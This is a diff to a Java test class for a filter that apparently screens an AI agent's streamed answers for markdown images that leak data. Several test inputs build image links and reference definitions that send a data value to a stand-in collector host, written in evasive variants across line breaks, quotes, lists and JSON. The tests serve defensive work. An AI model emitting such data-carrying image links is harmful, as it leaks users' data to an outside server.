@@ -390,6 +390,18 @@ class AgentPresetTest {
                 "See ![chart][x].\n\n" + prose + "\n\n" + definition,
                 "See ![a [b] c][x].\n\n" + prose + "\n\n" + definition,
                 "See ![x].\n\n" + prose + "\n\n" + definition,
+                "See ![" + "a long description of the chart ".repeat(9) + "][x].\n\n" + prose.substring(0, 1500)
+                        + "\n\n" + definition,
+                // definitions that do not begin a line, or whose destination or label runs over a line break
+                "[x]:\n  https://collector.example/p.png?d=" + data + "\n\n" + prose + "\n\nSee ![chart][x].",
+                "> " + definition + "\n\n" + prose + "\n\nSee ![chart][x].",
+                "- " + definition + "\n\n" + prose + "\n\nSee ![chart][x].",
+                "[note\nx]: https://collector.example/p.png?d=" + data + "\n\n" + prose + "\n\nSee ![chart][note x].",
+                // an image inside a link (the link's "](" is not the image's)
+                "See [![chart][x]](https://ok.example/).\n\n" + prose.substring(0, 1500) + "\n\n" + definition,
+                // JSON, then text
+                "{\n \"summary\": \"See ![chart][x] for details\",\n \"items\": [\"" + prose.substring(0, 300)
+                        + "\"]\n}\n\n" + definition,
                 "[note] ![a](https://collector.example/p.png?d=" + data + ") done",
                 "{note} ![a](https://collector.example/p.png?d=" + data + ") done",
                 "{\"a\":1} ![a](https://collector.example/p.png?d=" + data + ") done")) {
@@ -419,13 +431,22 @@ class AgentPresetTest {
     }
 
     @Test
+    void aStreamBlocksAReferenceImageWithNoDefinitionWithinTheHoldTheDocumentedPrice() {
+        String answer = "Wow![sic] that is " + "The numbers look steady and the team is on track. ".repeat(100);
+        assertAnswerPasses(answer);
+        assertThat(stream(answer, 5).blocked()).isNotNull();
+    }
+
+    @Test
     void aStreamReleasesReferenceImagesWhoseDefinitionsCarryNothing() {
-        // a reference image's label closes it: it is not held as an open image (an answer with "![x]" and 4,096
-        // characters after it was blocked as an image too long to hold)
+        // definitions remembered, images held until their definition comes (within 4,096 characters): the answers
+        // pass as a whole answer does
         String prose = "The quarterly numbers look steady and the team is on track for the launch. ".repeat(70);
         for (String answer : List.of(
-                "See ![chart][c].\n\n" + prose + "\n\n[c]: https://cdn.example.com/chart.png\n\nAnd ![c] again.",
-                "Wow![sic] that is " + prose,
+                "See ![chart][c].\n\n" + prose.substring(0, 2000) + "\n\n[c]: https://cdn.example.com/chart.png\n\n"
+                        + prose + "\n\nAnd ![c] again.",
+                "Wow![sic] that is " + prose.substring(0, 2000),
+                "[Alice]: Hello there.\n[Bob]: Hi.\n".repeat(300) + "See ![chart](https://cdn.example.com/c.png).",
                 "[1]: https://docs.example.com/start\n\n" + prose + " See [the docs][1].")) {
             assertAnswerPasses(answer);
             StreamOutcome out = stream(answer, 5);
